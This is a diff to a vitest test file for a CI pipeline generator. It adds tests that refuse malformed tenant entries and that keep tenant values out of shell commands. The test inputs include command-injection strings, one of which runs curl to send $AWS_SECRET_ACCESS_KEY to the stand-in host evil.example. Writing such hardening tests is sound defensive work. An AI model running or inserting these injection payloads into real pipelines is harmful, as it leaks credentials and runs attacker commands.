@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process'
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { afterAll, expect, it } from 'vitest'
@@ -46,8 +46,50 @@ it('gives GitLab jobs whose merge waits for its own shares', () => {
     'npm run release -- --site dist --to "$RELEASE_TO" $RELEASE_FLAGS --report release.json',
   )
   expect(pipeline['haihui rollback']).toMatchObject({ when: 'manual', needs: [] })
-  expect(pipeline['haihui rollback'].script.at(-1)).toContain('--domain "fair.example.com" --rollback')
-  expect(pipeline['seto 1/1'].script[1]).toContain('--domain "seto.example.com" --shard "1/1"')
+  expect(pipeline['haihui rollback'].script.at(-1)).toContain('--domain "$SITE_DOMAIN" --rollback')
+  expect(pipeline['haihui rollback'].variables.SITE_DOMAIN).toBe('fair.example.com')
+  expect(pipeline['seto 1/1'].script[1]).toContain('--domain "$SITE_DOMAIN" --shard "$SITE_SHARD"')
+  expect(pipeline['seto 1/1'].variables).toMatchObject({ SITE_DOMAIN: 'seto.example.com', SITE_SHARD: '1/1' })
+})
+
+it.each([
+  ['name', { name: 'a; curl evil.example' }],
+  ['name', { name: '../a' }],
+  ['platform', { platform: 'https://p.example/$(id)' }],
+  ['platform', { platform: 'http://p.example' }],
+  ['domain', { domain: 'x"; curl -d "$AWS_SECRET_ACCESS_KEY" evil.example; "' }],
+  ['domain', { domain: undefined }],
+  ['shards', { shards: 0 }],
+  ['shards', { shards: '3' }],
+  ['extra', { extra: 1 }],
+])('refuses a tenant whose %s is none: %j', (field, wrong) => {
+  const tenants = file('wrong.json', [TENANTS[1], { ...TENANTS[0], ...wrong }])
+  for (const form of ['', '--gitlab'])
+    expect(() => run('matrix.mjs', tenants, form)).toThrow(`tenants.json, tenant 2: ${field} cannot be`)
+})
+
+it('refuses two tenants of one name', () => {
+  expect(() => run('matrix.mjs', file('twice.json', [TENANTS[0], TENANTS[0]]))).toThrow('two tenants have one name')
+})
+
+it('no value of the tenants’ list, and none that somebody sends, is part of a command', () => {
+  const pipeline = JSON.parse(run('matrix.mjs', file('tenants.json', TENANTS), '--gitlab'))
+  const { default: _, stages: __, ...jobs } = pipeline as Record<string, { script: string[]; after_script?: string[] }>
+  const commands = Object.values(jobs).flatMap(({ script, after_script = [] }) => [...script, ...after_script])
+  expect(commands.length).toBeGreaterThan(10)
+  expect(commands.filter((command) => /haihui|seto|platform\.example/.test(command))).toEqual([])
+
+  const lines = readFileSync('docs/ci/github-actions.yml', 'utf8').split('\n')
+  const indent = (line: string) => line.search(/\S/)
+  let within = Number.POSITIVE_INFINITY
+  const ofCommands = lines.filter((line) => {
+    if (/^\s*(- )?run:/.test(line)) within = indent(line)
+    else if (line.trim() !== '' && indent(line) <= within) within = Number.POSITIVE_INFINITY
+    return within < Number.POSITIVE_INFINITY
+  })
+  expect(ofCommands.length).toBeGreaterThan(10)
+  expect(ofCommands.filter((line) => line.includes('${{'))).toEqual([])
+  expect(lines).toContain('permissions: { contents: read }')
 })
 
 it('tells what a build did', () => {
